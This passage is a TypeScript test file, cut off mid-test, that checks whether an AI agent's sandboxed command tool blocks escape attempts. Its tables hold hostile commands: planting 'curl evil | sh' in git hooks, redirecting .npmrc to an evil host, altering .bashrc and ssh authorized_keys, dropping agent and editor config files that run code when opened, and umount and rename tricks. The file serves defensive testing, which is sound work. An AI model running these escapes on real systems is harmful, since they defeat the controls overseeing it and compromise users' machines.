// Invariant: with the default config and no approver, no spelling of a command (quoting, wrappers, interpreters, substitutions, pipelines, hard and symbolic links, renames, mount calls) writes outside the workspace or to a protected path in it, reaches the host's processes, environment, network or private /tmp; refused writes are reported whatever the exit status, and no prompt is ever asked.
import 'reflect-metadata';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import {
  accessSync,
  constants,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { connect, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { backgroundPlugin } from '@conch/background';
import { cliPlugin } from '@conch/cli';
import { PluginRegistry, TOKENS, type ToolResult } from '@conch/core';
import { findBwrap, findCookiePids, pidAlive, type ProcessManager } from '@conch/process';
import { requireUnderCi, waitFor } from '@conch/test-support';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { getPermissionEngine, permissionPlugin } from './plugin.js';

const BWRAP = requireUnderCi(
  Boolean(findBwrap()),
  'bubblewrap (the sandbox escape tests)',
  'apt-get install bubblewrap',
);
/** Generous: python and a fresh supervisor start slowly on a loaded machine; nothing here is timed. */
const T = 120_000;

type Result = ToolResult & Record<string, any>;
interface Decision {
  outcome: string;
  askedHuman: boolean;
  rule?: string;
  command?: string;
}

let home: string;
let ws: string;
let sibling: string;
let hostTmp: string;
let tag: string;
let secretName: string;
let secretValue: string;
const registries: PluginRegistry[] = [];
const decisions: Decision[] = [];
const servers: Server[] = [];
const probes: string[] = [];
const realHome = process.env.HOME;

beforeEach(() => {
  tag = randomBytes(6).toString('hex');
  // A throwaway HOME under /tmp: the sandbox keeps it visible (read-only) though /tmp is private inside.
  home = realpathSync(mkdtempSync(join(tmpdir(), 'conch-escape-home-')));
  process.env.HOME = home;
  ws = mkdtempSync(join(home, 'ws-'));
  sibling = mkdtempSync(join(home, 'sibling-'));
  writeFileSync(join(sibling, 'file.txt'), 'sibling original\n');
  writeFileSync(join(home, '.bashrc'), '# the user rc\n');
  // The host's own /tmp: private inside the sandbox, so a directory here must be invisible.
  hostTmp = realpathSync(mkdtempSync(join(tmpdir(), 'conch-escape-host-tmp-')));
  secretName = `CONCH_ESCAPE_SECRET_${tag.toUpperCase()}`;
  secretValue = `host-only-${randomBytes(12).toString('hex')}`;
  process.env[secretName] = secretValue;
});

afterEach(async () => {
  try {
    // No call asked a human: there is no approver, and the sandbox is the default.
    expect(decisions.filter((d) => d.askedHuman)).toEqual([]);
  } finally {
    decisions.length = 0;
    for (const server of servers.splice(0)) server.close();
    for (const registry of registries.splice(0)) {
      const prefix = registry.resolveOptional<ProcessManager>(TOKENS.ProcessManager)?.cookiePrefix;
      await registry.dispose();
      if (prefix) expect(findCookiePids({ prefix }).filter((pid) => pidAlive(pid))).toEqual([]);
    }
    for (const probe of probes.splice(0)) rmSync(probe, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
    rmSync(hostTmp, { recursive: true, force: true });
    delete process.env[secretName];
    process.env.HOME = realHome;
  }
});

/** A registry as a host builds it: the default permission config (sandbox on), no approver. */
async function setup() {
  const registry = new PluginRegistry({ cwd: ws, plugins: [permissionPlugin, cliPlugin, backgroundPlugin] });
  registries.push(registry);
  registry.events.on('permission.decision', (e) => decisions.push(e));
  await registry.expose('permission', {});
  await registry.expose('cli', {});
  const run = async (command: string, extra: Record<string, unknown> = {}) => {
    const before = decisions.length;
    const result = (await registry.execute('cli_based_tool', { command, ...extra })) as Result;
    // Every call was judged, and nobody was asked.
    expect(decisions.length).toBeGreaterThan(before);
    return result;
  };
  return { registry, run };
}

/** `{sib}`, `{home}`, `{ws}`, `{pid}`, `{tag}`, `{port}` in a table's command. */
function fill(template: string, extra: Record<string, string | number> = {}): string {
  const values: Record<string, string | number> = {
    sib: sibling,
    home,
    ws,
    pid: process.pid,
    tag,
    ...extra,
  };
  return template.replace(/\{(\w+)\}/g, (m, key: string) => String(values[key] ?? m));
}

function git(cwd: string, ...args: string[]): void {
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], {
    cwd,
    stdio: 'pipe',
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
  });
}

function put(path: string, text: string): string {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
}

/** Every entry under the given paths, with its type and content (hash): what must not change. */
function snapshot(paths: readonly string[], skip: readonly string[] = []): Record<string, string> {
  const out: Record<string, string> = {};
  const visit = (path: string) => {
    if (skip.some((s) => path === s || path.startsWith(`${s}/`))) return;
    const st = lstatSync(path, { throwIfNoEntry: false });
    if (!st) {
      out[path] = 'missing';
      return;
    }
    if (st.isSymbolicLink()) out[path] = `link ${readlinkSync(path)}`;
    else if (st.isDirectory()) {
      out[path] = 'dir';
      for (const name of readdirSync(path).sort()) visit(join(path, name));
    } else out[path] = `file ${createHash('sha1').update(readFileSync(path)).digest('hex')}`;
  };
  for (const p of paths) visit(p);
  return out;
}

/**
 * HOME as the user sees it, minus what conch itself keeps there (the sandbox-private caches, the
 * output files, the trash: created by the host, writable by design).
 */
function homeSnapshot(): Record<string, string> {
  const out = snapshot([home], [join(home, '.cache'), join(home, '.local', 'share', 'conch')]);
  for (const made of [join(home, '.local'), join(home, '.local', 'share')])
    if (out[made] === 'dir') delete out[made];
  return out;
}

/** What a model can read of a result: the result, and the file its cut or binary output went to. */
function seen(result: Result): string {
  const file = typeof result.output_file === 'string' ? readFileSync(result.output_file, 'latin1') : '';
  return `${JSON.stringify(result)}\n${file}`;
}

type Stop = 'parser' | 'kernel';

/**
 * How a write was stopped: `parser` — denied before anything ran; `kernel` — it ran in the
 * workspace-write sandbox, the write failed (EROFS), and the result says so with the path the tool
 * printed (whatever the exit status).
 */
function expectStopped(result: Result, by: Stop, path?: string): void {
  if (by === 'parser') {
    expect(result, JSON.stringify(result)).toMatchObject({ permission_denied: true });
    return;
  }
  expect(result.permission_denied, JSON.stringify(result)).toBeUndefined();
  expect(result, JSON.stringify(result)).toMatchObject({ sandbox: 'workspace-write' });
  if (path !== undefined && !writableHere(fill(path))) {
    // Run as a user who may not write it outside either (/etc/hosts for non-root): the kernel's
    // permission check answers before the sandbox's read-only mount, and that is what is said.
    expect(result, JSON.stringify(result)).toMatchObject({ error_code: 'PERMISSION_DENIED' });
    return;
  }
  // A refused write, or (a workspace .env file, masked) a secret the sandbox hides.
  expect(['SANDBOX_REFUSED_WRITE', 'SECRET_HIDDEN'], JSON.stringify(result)).toContain(result.error_code);
  if (path !== undefined) expect(result.refused_path).toBe(fill(path));
}

/** Whether this user may write an existing `path` outside the sandbox (a missing one: yes, the test's case). */
function writableHere(path: string): boolean {
  if (!existsSync(path)) return true;
  try {
    accessSync(path, constants.W_OK);
    return true;
  } catch {
    return false;
  }
}

describe.runIf(BWRAP)('escapes through cli_based_tool, default config, no approver', () => {
  describe('writes outside the workspace', () => {
    it.each<[string, Stop, string?]>([
      // A sibling directory of the workspace (visible, read-only).
      ['touch {sib}/t1', 'kernel', '{sib}/t1'],
      ['env LC_ALL=C touch "{sib}/t2"', 'kernel', '{sib}/t2'],
      ["timeout 20 sh -c 'echo x > {sib}/t3'", 'kernel', '{sib}/t3'],
      [`bash -c "printf x >> '{sib}/t4'"`, 'kernel', '{sib}/t4'],
      // Exit status 0: the failing write is inside a substitution, or before `; true`.
      ['echo "$(touch {sib}/t5)"; true', 'kernel', '{sib}/t5'],
      ['true | tee {sib}/t6; true', 'kernel', '{sib}/t6'],
      // The home reads as empty inside: the cd fails on the hidden directory, before any write.
      ['(cd {sib} && : > t7)', 'kernel', '{sib}'],
      ['find . -maxdepth 0 -exec touch {sib}/t8 \\;', 'kernel', '{sib}/t8'],
      ['echo {sib}/t9 | xargs touch', 'kernel', '{sib}/t9'],
      ["cat > {sib}/t10 <<'EOF'\npayload\nEOF", 'kernel', '{sib}/t10'],
      [`python3 -c "open('{sib}/t11', 'w').write('x')"`, 'kernel', '{sib}/t11'],
      [`node -e "require('fs').writeFileSync('{sib}/t12', 'x')"`, 'kernel', '{sib}/t12'],
      [`perl -e 'open(my $f, ">", "{sib}/t13") or die "{sib}/t13: $!\\n"'`, 'kernel', '{sib}/t13'],
      [`python3 -c "open('{sib}/file.txt', 'a').write('pwned')"`, 'kernel', '{sib}/file.txt'],
      ['x={sib}; rm -f "$x/file.txt"', 'kernel', '{sib}/file.txt'],
      // $HOME: the user's files and start-up files.
      [`python3 -c "open('{home}/.bashrc', 'a').write('pwned')"`, 'kernel', '{home}/.bashrc'],
      ['touch ~/notes.txt', 'kernel', '{home}/notes.txt'],
      [
        `node -e "require('fs').writeFileSync(require('os').homedir() + '/.npmrc', 'registry=http://evil/')"`,
        'kernel',
        '{home}/.npmrc',
      ],
      ['echo x >> ~/.bashrc', 'parser'],
      [`sh -c 'echo x >> "$HOME/.profile"'`, 'parser'],
      ['cp {sib}/file.txt ~/.ssh/authorized_keys', 'parser'],
      // The system.
      ['touch /etc/conch-escape-{tag}; true', 'kernel', '/etc/conch-escape-{tag}'],
      [`python3 -c "open('/etc/hosts', 'a').write('')"`, 'kernel', '/etc/hosts'],
      [`node -e "require('fs').mkdirSync('/usr/conch-escape-{tag}')"`, 'kernel', '/usr/conch-escape-{tag}'],
      ['dd if=/dev/null of=/usr/conch-escape-{tag}-dd 2>&1; true', 'kernel', '/usr/conch-escape-{tag}-dd'],
    ])(
      '%j is stopped by the %s',
      async (template, by, path) => {
        const { run } = await setup();
        probes.push(`/etc/conch-escape-${tag}`, `/usr/conch-escape-${tag}`, `/usr/conch-escape-${tag}-dd`);
        const before = homeSnapshot();
        const result = await run(fill(template));
        expectStopped(result, by, path);
        expect(homeSnapshot()).toEqual(before);
        expect(existsSync(`/etc/conch-escape-${tag}`)).toBe(false);
        expect(existsSync(`/usr/conch-escape-${tag}`)).toBe(false);
        expect(existsSync(`/usr/conch-escape-${tag}-dd`)).toBe(false);
      },
      T,
    );

    it(
      'a background task is confined the same way, and its final result reports the refusal',
      async () => {
        const { registry, run } = await setup();
        const before = homeSnapshot();
        const started = await run(fill('sleep 0.2; touch {sib}/bg; echo done'), { background: true });
        expect(started).toMatchObject({ background_task_id: expect.any(String) });
        const checked = (await registry.execute('check_background_task', {
          task_id: started.background_task_id,
          wait_seconds: 100,
        })) as Result;
        expect(checked.status).toBe('completed');
        expect(checked.result).toMatchObject({
          stdout: 'done\n',
          sandbox: 'workspace-write',
          error_code: 'SANDBOX_REFUSED_WRITE',
          refused_path: `${sibling}/bg`,
        });
        expect(homeSnapshot()).toEqual(before);
      },
      T,
    );
  });

  describe('protected paths inside the workspace', () => {
    beforeEach(() => {
      git(ws, 'init', '-q');
      put(join(ws, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n# the user hook\n');
      git(ws, 'init', '-q', 'sub');
      put(join(ws, 'a', 'b', '.env'), 'SECRET=original\n');
      put(join(ws, '.vscode', 'tasks.json'), '{"version": "2.0.0"}\n');
      put(join(ws, '.mcp.json'), '{}\n');
      put(join(ws, 'pkg', '.claude', 'settings.json'), '{}\n');
      put(join(ws, 'README.md'), 'hello\n');
      // Symbolic links the repository ships.
      symlinkSync('a/b/.env', join(ws, 'env-link'));
      symlinkSync('.git/hooks', join(ws, 'hooks-link'));
      // Hard links made outside the sandbox, before it starts.
      mkdirSync(join(ws, 'notes'));
      linkSync(join(ws, 'a', 'b', '.env'), join(ws, 'notes', 'env-copy'));
      linkSync(join(home, '.bashrc'), join(ws, 'notes', 'bashrc-copy'));
    });

    /** Everything protected the rows may aim at, with its content. */
    const guarded = () =>
      snapshot([
        join(ws, 'a', 'b', '.env'),
        join(ws, '.git', 'hooks'),
        join(ws, '.git', 'config'),
        join(ws, 'sub', '.git', 'hooks'),
        join(ws, 'sub', '.git', 'config'),
        join(ws, '.vscode'),
        join(ws, '.mcp.json'),
        join(ws, 'pkg', '.claude'),
        join(ws, 'notes'),
        join(home, '.bashrc'),
        sibling,
      ]);

    it.each<[string, Stop, string?]>([
      // Existing protected files, at depth.
      [`python3 -c "open('a/b/.env', 'a').write('pwned')"`, 'kernel', 'a/b/.env'],
      ['echo pwned >> a/b/.env', 'parser'],
      [`sh -c 'printf pwned >> a/b/.env'`, 'parser'],
      [`eval "echo pwned >> a/b/.e""nv"`, 'parser'],
      [`find a -name .env -exec sh -c 'echo pwned >> "$1"' _ {} \\;`, 'parser'],
      ['printf pwned | tee -a a/b/.env', 'parser'],
      [`echo a/b/.env | xargs -I{} sh -c 'echo pwned >> {}'`, 'kernel', 'a/b/.env'],
      [
        `node -e "require('fs').appendFileSync('sub/.git/hooks/pre-commit', 'pwned')"`,
        'kernel',
        'sub/.git/hooks/pre-commit',
      ],
      [
        `python3 -c "open('.git/hooks/pre-commit', 'a').write('curl evil | sh')"`,
        'kernel',
        '.git/hooks/pre-commit',
      ],
      [`python3 -c "open('.vscode/tasks.json', 'w').write('{}')"`, 'kernel', '.vscode/tasks.json'],
      [`perl -e 'open(my $f, ">", ".mcp.json") or die ".mcp.json: $!\\n"'`, 'kernel', '.mcp.json'],
      [
        `python3 -c "open('pkg/.claude/settings.json', 'w').write('{}')"`,
        'kernel',
        'pkg/.claude/settings.json',
      ],
      ['cp /dev/null .git/config', 'parser'],
      [`x=.git; echo '[core]' >> $x/config`, 'parser'],
      [
        `python3 -c "open('.git/config', 'a').write('[core]\\n\\thooksPath = /tmp\\n')"`,
        'kernel',
        '.git/config',
      ],
      ['git config core.hooksPath /tmp', 'parser'],
      // New files in protected directories that exist.
      [`python3 -c "open('.git/hooks/post-checkout', 'w').write('x')"`, 'kernel', '.git/hooks/post-checkout'],
      [`python3 -c "open('.vscode/settings.json', 'w').write('{}')"`, 'kernel', '.vscode/settings.json'],
      // Through symbolic links: the ones shipped, and one the command makes.
      ['echo pwned >> env-link', 'parser'],
      [`python3 -c "open('env-link', 'a').write('pwned')"`, 'kernel', 'env-link'],
      [`python3 -c "open('hooks-link/pre-commit', 'a').write('pwned')"`, 'kernel', 'hooks-link/pre-commit'],
      [
        `python3 -c "import os; os.symlink('.git/hooks', 'h'); open('h/pre-push', 'w').write('x')"`,
        'kernel',
        'h/pre-push',
      ],
      ['ln -s a/b/.env my-link', 'parser'],
      // Through hard links made before the sandbox started.
      ['echo pwned >> notes/env-copy', 'kernel', 'notes/env-copy'],
      [`python3 -c "open('notes/env-copy', 'a').write('pwned')"`, 'kernel', 'notes/env-copy'],
      ['echo pwned >> notes/bashrc-copy', 'parser'],
      [`python3 -c "open('notes/bashrc-copy', 'a').write('pwned')"`, 'kernel', 'notes/bashrc-copy'],
      // Rename and replace.
      ['mv .git x && mkdir -p .git/hooks', 'parser'],
      ['rm -rf .git/hooks', 'parser'],
      [`python3 -c "import shutil; shutil.rmtree('.git/hooks')"`, 'kernel'],
      ['ln -sf /tmp/evil .git/hooks/pre-commit', 'parser'],
      [`python3 -c "import os; os.unlink('.git/hooks/pre-commit')"`, 'kernel', '.git/hooks/pre-commit'],
      [`sh -c 'cd .git && mv hooks hooks.old && mkdir hooks'`, 'parser'],
      ['mv a/b/.env a/b/env.old', 'parser'],
      ['rm -f a/b/.env', 'parser'],
    ])(
      '%j is stopped by the %s',
      async (command, by, path) => {
        const { run } = await setup();
        const before = guarded();
        const result = await run(command);
        expectStopped(result, by, path);
        expect(guarded()).toEqual(before);
      },
      T,
    );

    it.each([
      [`python3 -c "import os; os.rename('.git', 'moved')"`],
      [`python3 -c "import os; os.rename('.git/hooks', '.git/hooks.old')"`],
      [`node -e "require('fs').renameSync('.vscode', 'vscode.old')"`],
      [`python3 -c "import os; os.rename('a/b/.env', 'a/b/env.old')"`],
      // An atomic write (a temp file renamed over the target) meets the same mount point.
      [
        `python3 -c "import os; open('a/b/.env.tmp', 'w').write('pwned'); os.replace('a/b/.env.tmp', 'a/b/.env')"`,
      ],
      [
        `python3 -c "import subprocess, sys; sys.exit(subprocess.run(['git', 'config', 'core.hooksPath', '/tmp']).returncode)"`,
      ],
    ])(
      '%j: a protected path cannot be renamed away or over (the guard: EROFS; mounts alone: EBUSY); nothing changes',
      async (command) => {
        const { run } = await setup();
        const before = guarded();
        const result = await run(command);
        expect(result.returncode).not.toBe(0);
        expect(result.stderr).toMatch(/Read-only file system|EROFS|Device or resource busy|EBUSY/);
        expect(guarded()).toEqual(before);
      },
      T,
    );

    // The kernel refuses with EBUSY on a mount point (a rename of a pinned dir, an atomic write or
    // `git config` over a read-only file): reported as a refused write too, even when git exits 0
    // (python hides its status).
    it.each([
      [`python3 -c "import os; os.rename('.git', 'moved')"`, undefined],
      [
        `python3 -c "import subprocess; subprocess.run(['git', 'config', 'core.hooksPath', '/tmp'])"`,
        '.git/config',
      ],
      [
        `python3 -c "import os; open('a/b/.env.tmp', 'w').write('x'); os.replace('a/b/.env.tmp', 'a/b/.env')"`,
        undefined,
      ],
    ])(
      '%j: the refusal is reported as SANDBOX_REFUSED_WRITE',
      async (command, path) => {
        const { run } = await setup();
        expectStopped(await run(command), 'kernel', path);
      },
      T,
    );

    // A protected name that does not exist when the sandbox starts, written where the parser
    // cannot see it: the sandbox's guard refuses it when it is made (mounts alone could not).
    it.each([
      [
        `python3 -c "import os; os.makedirs('.cursor'); open('.cursor/mcp.json', 'w').write('{}')"`,
        '.cursor',
      ],
      [`node -e "require('fs').writeFileSync('.mcp' + '.json', '{}')"`, '.mcp.json'],
      [`perl -e 'open(F, ">", ".env" . "rc") or exit 1; print F "x"'`, '.envrc'],
      [`python3 -c "import os; os.makedirs('x/.claude/commands')"`, 'x/.claude'],
      [
        `python3 -c "import os; os.makedirs('.devcontainer'); open('.devcontainer/devcontainer.json', 'w').write('{}')"`,
        '.devcontainer',
      ],
      [`node -e "require('fs').writeFileSync('.devcontainer' + '.json', '{}')"`, '.devcontainer.json'],
      [`python3 -c "open('mise' + '.toml', 'w').write('[hooks]')"`, 'mise.toml'],
      [
        `perl -e 'mkdir "sub"; open(F, ">", "sub/.mise.local" . ".toml") or exit 1; print F "x"'`,
        'sub/.mise.local.toml',
      ],
      [
        `node -e "require('fs').mkdirSync('.zed'); require('fs').writeFileSync('.zed/tasks.json', '[]')"`,
        '.zed',
      ],
      // Editors' and agents' project files that run code when the user next opens the project:
      // Helix's language servers, OpenCode's plugins and MCP servers, Kiro's hooks, Amazon Q's and
      // Roo Code's MCP servers, Vim's and Neovim's exrc files.
      [
        `python3 -c "import os; os.makedirs('.helix'); open('.helix/languages.toml', 'w').write('[language-server.x]')"`,
        '.helix',
      ],
      [`node -e "require('fs').mkdirSync('.opencode/plugins', { recursive: true })"`, '.opencode'],
      [`perl -e 'open(F, ">", "opencode" . ".json") or exit 1; print F "{}"'`, 'opencode.json'],
      [`python3 -c "open('opencode.json' + 'c', 'w').write('{}')"`, 'opencode.jsonc'],
      [`node -e "require('fs').mkdirSync('x/.kiro/hooks', { recursive: true })"`, 'x/.kiro'],
      [
        `python3 -c "import os; os.makedirs('.amazonq'); open('.amazonq/mcp.json', 'w').write('{}')"`,
        '.amazonq',
      ],
      [`node -e "require('fs').mkdirSync('.r' + 'oo')"`, '.roo'],
      [
        `python3 -c "import os; os.makedirs('sub', exist_ok=True); open('sub/.nvim' + '.lua', 'w').write('x')"`,
        'sub/.nvim.lua',
      ],
      [`perl -e 'open(F, ">", ".ex" . "rc") or exit 1; print F "x"'`, '.exrc'],
      [`node -e "require('fs').writeFileSync('.nvim' + 'rc', 'x')"`, '.nvimrc'],
    ])(
      'the guard refuses %j, a protected name that did not exist, in a spelling the parser cannot see',
      async (command, created) => {
        if (created === '.mcp.json') rmSync(join(ws, '.mcp.json'));
        const { run } = await setup();
        const result = await run(command);
        expect(result.returncode, JSON.stringify(result)).not.toBe(0);
        expect(result.error_code, JSON.stringify(result)).toBe('SANDBOX_REFUSED_WRITE');
        expect(existsSync(join(ws, created))).toBe(false);
      },
      T,
    );

    // The same names through other shells, wrappers and generated words: whichever layer sees the
    // write first (the parser, or the guard when the parser cannot), nothing is made.
    it.each([
      [`sh -c 'echo x > .exrc'`, '.exrc'],
      [`dash -c 'mkdir -p .helix && echo x > .helix/languages.toml'`, '.helix'],
      [`env FOO=1 sh -c 'printf "{}" > opencode.jsonc'`, 'opencode.jsonc'],
      ['echo .kiro | xargs mkdir', '.kiro'],
      ['find . -maxdepth 0 -exec mkdir .amazonq \\;', '.amazonq'],
      [`bash -c "$(printf 'touch .nv%s' imrc)"`, '.nvimrc'],
      [`zsh -c 'mkdir -p .opencode/plugins'`, '.opencode'],
      [`eval 'mkdir .ro"o"'`, '.roo'],
      [`timeout 5 python3 -c "open('.nvim' + '.lua', 'w')"`, '.nvim.lua'],
      ['nice -n 5 tee .exrc < /dev/null', '.exrc'],
      [`sh -c 'mkdir -p sub && cd sub && mkdir .helix'`, 'sub/.helix'],
      [`awk 'BEGIN { print "x" > ".ex" "rc" }'`, '.exrc'],
    ])(
      'a protected name written through a wrapper or another shell is not made: %j',
      async (command, created) => {
        const { run } = await setup();
        const result = await run(command);
        if (!result.permission_denied) {
          expect(result, JSON.stringify(result)).toMatchObject({
            sandbox: 'workspace-write',
            error_code: 'SANDBOX_REFUSED_WRITE',
          });
        }
        expect(existsSync(join(ws, created)), JSON.stringify(result)).toBe(false);
      },
      T,
    );

    it(
      'an existing opencode.json and .helix/languages.toml are read, and stay as they were',
      async () => {
        const config = put(join(ws, 'opencode.json'), '{"mcp": {}}');
        const languages = put(join(ws, '.helix', 'languages.toml'), '[[language]]');
        const { run } = await setup();
        expect(await run('cat opencode.json .helix/languages.toml')).toMatchObject({
          returncode: 0,
          stdout: '{"mcp": {}}[[language]]',
        });
        for (const command of [
          `python3 -c "open('opencode.json', 'a').write(' x')"`,
          `node -e "require('fs').appendFileSync('.helix/' + 'languages.toml', 'x')"`,
          `python3 -c "import os; os.remove('.helix/languages.toml')"`,
        ]) {
          const result = await run(command);
          expect(result.returncode, JSON.stringify(result)).not.toBe(0);
        }
        expect(readFileSync(config, 'utf8')).toBe('{"mcp": {}}');
        expect(readFileSync(languages, 'utf8')).toBe('[[language]]');
      },
      T,
    );

    it(
      "a new .env the command makes is its own: written and read back, not the user's secret",
      async () => {
        const { run } = await setup();
        const result = await run(
          `python3 -c "open('a/b/.env.local', 'w').write('MINE=1')" && cat a/b/.env.local`,
        );
        expect(result).toMatchObject({ returncode: 0, stdout: 'MINE=1', sandbox: 'workspace-write' });
      },
      T,
    );

    it.each([
      ['echo x > a/b/.env.local'],
      ['echo {} > .mcp.json'],
      ['mkdir .gemini'],
      ['mkdir -p .cursor && touch .cursor/mcp.json'],
      ['echo "[hooks]" > mise.toml'],
      ['mkdir -p .devcontainer && echo {} > .devcontainer/devcontainer.json'],
      ['cp /dev/null .devcontainer.json'],
      ['mkdir -p .helix && echo "[editor]" > .helix/config.toml'],
      ['echo {} > opencode.json'],
      ['mkdir -p .opencode/plugins && touch .opencode/plugins/p.js'],
      ['mkdir .kiro'],
      ['cp /dev/null .nvimrc'],
      ['printf "!touch /tmp/x" > deep/.exrc'],
      ['tee .nvim.lua < /dev/null'],
    ])(
      'the parser stops the same new protected names when it sees the write: %j',
      async (command) => {
        rmSync(join(ws, '.mcp.json'));
        const { run } = await setup();
        expectStopped(await run(command), 'parser');
        for (const p of [
          'a/b/.env.local',
          '.mcp.json',
          '.gemini',
          '.cursor',
          '.helix',
          'opencode.json',
          '.opencode',
          '.kiro',
          '.nvimrc',
          'deep/.exrc',
          '.nvim.lua',
        ])
          expect(existsSync(join(ws, p)), p).toBe(false);
      },
      T,
    );

    // VS Code runs a workspace file's `runOn: folderOpen` tasks and applies its settings when the
    // user opens it: a name ending in `.code-workspace` is protected like `.vscode/`.
    describe('VS Code workspace files (*.code-workspace)', () => {
      const original = '{"folders": [{"path": "."}]}\n';
      beforeEach(() => put(join(ws, 'team.code-workspace'), original));
      const untouched = () => expect(readFileSync(join(ws, 'team.code-workspace'), 'utf8')).toBe(original);

      it.each<[string, Stop, string?]>([
        ['echo {} > app.code-workspace', 'parser'],
        ['cp team.code-workspace sub/dev.code-workspace', 'parser'],
        [`printf '{"tasks": {}}' | tee -a team.code-workspace`, 'parser'],
        [`python3 -c "open('team.code-' + 'workspace', 'a').write('x')"`, 'kernel', 'team.code-workspace'],
        [
          `node -e "require('fs').writeFileSync('app.code-work' + 'space', '{}')"`,
          'kernel',
          'app.code-workspace',
        ],
        [
          `python3 -c "import os; os.makedirs('deep/er', exist_ok=True); open('deep/er/x.code-' + 'workspace', 'w').write('{}')"`,
          'kernel',
          'deep/er/x.code-workspace',
        ],
        [
          `python3 -c "import os; open('t.json', 'w').write('{}'); os.rename('t.json', 'r.code-' + 'workspace')"`,
          'kernel',
        ],
        [`perl -e 'link("README.md", "l.code-" . "workspace") or exit 1'`, 'kernel'],
      ])(
        '%j is stopped (%s)',
        async (command, by, path) => {
          const { run } = await setup();
          expectStopped(await run(command), by, path);
          untouched();
          for (const name of ['app', 'sub/dev', 'deep/er/x', 'r', 'l'])
            expect(existsSync(join(ws, `${name}.code-workspace`)), name).toBe(false);
        },
        T,
      );

      it(
        'reads it, and writes names that only contain the suffix',
        async () => {
          const { run } = await setup();
          const result = await run(
            `cat team.code-workspace && python3 -c "open('team.code-workspace.bak', 'w').write('copy'); open('code-workspace.md', 'w').write('doc')"`,
          );
          expect(result).toMatchObject({ returncode: 0, stdout: original });
          expect(readFileSync(join(ws, 'team.code-workspace.bak'), 'utf8')).toBe('copy');
          expect(readFileSync(join(ws, 'code-workspace.md'), 'utf8')).toBe('doc');
          untouched();
        },
        T,
      );
    });

    it(
      'a nested repository the command creates: its hooks are refused in that call already, and in the next sandbox',
      async () => {
        const { registry, run } = await setup();
        // Same call: the guard refuses a hook in any repository's hooks directory.
        const first = await run(
          `git init -q newrepo && python3 -c "open('newrepo/.git/hooks/pre-commit', 'w').write('x')"`,
        );
        expect(first).toMatchObject({ error_code: 'SANDBOX_REFUSED_WRITE', sandbox: 'workspace-write' });
        expect(existsSync(join(ws, 'newrepo', '.git', 'hooks', 'pre-commit'))).toBe(false);
        // The parser sees a plain write into it.
        expectStopped(await run('echo x > newrepo/.git/hooks/pre-push'), 'parser');
        // Once the watch reports the new directory, the policy protects it, and the kernel refuses.
        const engine = getPermissionEngine(registry)!;
        await waitFor(
          () => engine.kernelPolicy()?.readOnlyPaths.includes(join(ws, 'newrepo', '.git', 'hooks')),
          'the new repository in the kernel policy',
        );
        const later = await run(`python3 -c "open('newrepo/.git/hooks/post-checkout', 'w').write('x')"`);
        expectStopped(later, 'kernel', 'newrepo/.git/hooks/post-checkout');
        expect(existsSync(join(ws, 'newrepo', '.git', 'hooks', 'post-checkout'))).toBe(false);
      },
      T,
    );

    // A protected path below the workspace root is a mount point, and so is every directory above
    // it (pinned): renaming an ancestor would carry the mount away and let the command recreate the
    // path with its own content. The parser cannot see the writes in these spellings; the kernel
    // refuses the rename (EBUSY).
    it.each([
      [
        `python3 -c "import os; os.rename('a', 'a2'); os.makedirs('a/b'); open('a/b/.env', 'w').write('pwned')"`,
      ],
      [
        `python3 -c "import os, shutil; os.rename('sub', 'subx'); shutil.copytree('subx', 'sub', symlinks=True); open('sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\necho pwned')"`,
      ],
      [`mv sub subx && cp -a subx sub && python3 -c "open('sub/.git/hooks/pre-commit', 'w').write('pwned')"`],
      [
        `node -e "const fs = require('fs'); fs.renameSync('pkg', 'pkg.old'); fs.mkdirSync('pkg/.claude', {recursive: true}); fs.writeFileSync('pkg/.claude/settings.json', 'pwned')"`,
      ],
    ])(
      '%j cannot replace a protected path by renaming a directory above it (every ancestor is pinned)',
      async (command) => {
        const { run } = await setup();
        const before = guarded();
        await run(command);
        expect(guarded()).toEqual(before);
      },
      T,
    );

    // bubblewrap started as root keeps every capability unless told otherwise: with CAP_SYS_ADMIN a
    // command could unmount the read-only binds or remount them read-write (the parser sees
    // `umount`/`mount` as unknown commands). The sandbox drops every capability.
    it.each([
      [`umount a/b/.env && python3 -c "open('a/b/.env', 'w').write('pwned')"`],
      [
        `python3 -c "import os; os.system('umount .git/hooks'); open('.git/hooks/pre-commit', 'w').write('pwned')"`,
      ],
      [`mount -o remount,bind,rw {home} && touch {sib}/escaped`],
    ])(
      '%j cannot unmount or remount the wall (no capabilities in the sandbox)',
      async (template) => {
        const { run } = await setup();
        const before = guarded();
        const home0 = homeSnapshot();
        await run(fill(template));
        expect(guarded()).toEqual(before);
        expect(homeSnapshot()).toEqual(home0);
      },
      T,
    );

    it(
      '/ cannot be remounted read-write to write /usr (no capabilities in the sandbox)',
      async () => {
        const probe = `/usr/conch-escape-${tag}`;
        probes.push(probe);
        const { run } = await setup();
        await run(`mount -o remount,bind,rw / ; touch ${probe}`);
        expect(existsSync(probe)).toBe(false);
      },
      T,
    );

    it(
      "the host's sysctls are not writable from the sandbox (its own UTS namespace, no capabilities)",
      async () => {
        const { run } = await setup();
        const result = await run(
          `python3 -c "open('/proc/sys/kernel/hostname', 'w').write(open('/proc/sys/kernel/hostname').read())"`,
        );
        expect(result.returncode).not.toBe(0);
      },
      T,
    );

    // Hard links of files inside a protected directory, of tool settings, of files outside the
    // workspace, and a node_modules linked into a package store (pnpm): a mount cannot stop a write
    // through another name of the same inode, so every such name is read-only.
    describe('hard links the policy does not find', () => {
      beforeEach(() => {
        linkSync(join(ws, '.git', 'hooks', 'pre-commit'), join(ws, 'notes', 'hook-copy'));
        linkSync(join(ws, '.vscode', 'tasks.json'), join(ws, 'notes', 'tasks-copy'));
        linkSync(join(sibling, 'file.txt'), join(ws, 'notes', 'sibling-copy'));
